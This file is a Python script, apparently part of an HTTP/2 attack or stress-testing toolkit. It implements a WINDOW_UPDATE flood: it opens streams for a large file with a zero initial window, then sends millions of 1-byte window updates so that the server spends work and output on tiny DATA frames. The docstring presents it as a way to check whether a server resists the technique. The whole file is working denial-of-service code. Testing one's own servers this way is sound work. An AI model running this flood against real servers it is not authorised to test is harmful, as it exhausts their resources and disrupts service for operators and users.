#!/usr/bin/env python3
"""WINDOW_UPDATE flood: with INITIAL_WINDOW_SIZE 0, open streams for a large file, then
flood WINDOW_UPDATEs of 1 byte on those streams and on the connection, so the server
may answer each 13-byte frame with a 10-byte DATA frame (work and output per frame
sent). Reads all the while. Bounded by --count frames and --seconds. A resilient
server coalesces (waits for a useful window) or closes."""
import time

import h2attack as a


def attack(args):
    c = a.Conn(args, our_settings=[(a.INITIAL_WINDOW_SIZE, 0)])
    st = a.wait_settings(c, 0.5)
    streams = min(10, st.get("MAX_CONCURRENT_STREAMS", 10))
    block = a.request_block(a.authority(args), args.big, scheme=a.scheme(args))
    c.send(b"".join(a.frame(a.HEADERS, a.END_STREAM | a.END_HEADERS, 1 + 2 * i, block) for i in range(streams)))
    deadline = a.until_deadline(args)
    batch = b"".join(a.window_update(1 + 2 * (i % streams), 1) + a.window_update(0, 1) for i in range(500))
    sent = 0
    frames0 = 0
    while not c.closed and sent < args.count and time.monotonic() < deadline:
        if sent == 0:
            frames0 = c.frames_in["DATA"]
        if not c.send(batch, timeout=min(2.0, max(0.1, deadline - time.monotonic()))):
            break
        sent += 1000
    c.pump(1.0)
    c.close()
    return {"sent": "%d WINDOW_UPDATEs of 1 on %d streams + connection; %d DATA frames (%d bytes) back"
            % (sent, streams, c.frames_in["DATA"] - frames0, c.data_bytes),
            "frames": sent, "data_frames_in": c.frames_in["DATA"], "reaction": c.reaction()}


if __name__ == "__main__":
    a.run("window_update_flood", __doc__, attack, count_default=2000000)
